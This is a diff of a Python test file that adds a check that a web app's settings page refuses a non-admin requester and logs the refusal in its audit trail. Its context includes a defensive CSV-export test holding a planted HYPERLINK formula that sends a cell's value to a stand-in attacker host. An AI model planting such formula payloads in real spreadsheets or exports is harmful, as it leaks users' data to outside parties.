@@ -174,6 +174,25 @@ def test_the_audit_page_refuses_a_requester_and_audits_the_refusal(server: Serve
     assert any(r["actor"] == "alice@contoso.com" for r in refused)
 
 
+def test_the_settings_page_refuses_a_requester_and_audits_the_refusal(server: Server) -> None:
+    with signed_in(server, "alice@contoso.com") as alice:
+        page = alice.get("/settings")
+        assert page.status_code == 403
+        assert "privileged access settings" in page.text
+        assert 'id="control-state"' not in page.text
+    with api(server, "admin@contoso.com") as admin:
+        refused = admin.get(
+            "/audit",
+            params={
+                "actor": "alice@contoso.com",
+                "operation": "Enable-ElevatedAccessControl",
+                "outcome": "refused",
+            },
+        ).json()["items"]
+    assert [(r["actor"], r["target"]) for r in refused] == [("alice@contoso.com", "access control")]
+    assert refused[0]["details"]["error"] == "not_permitted"
+
+
 def test_csv_export_cells_never_start_like_a_formula(server: Server) -> None:
     planted = '=HYPERLINK("http://evil.example/?x="&A1,"open")'
     with api(server, "alice@contoso.com") as alice:
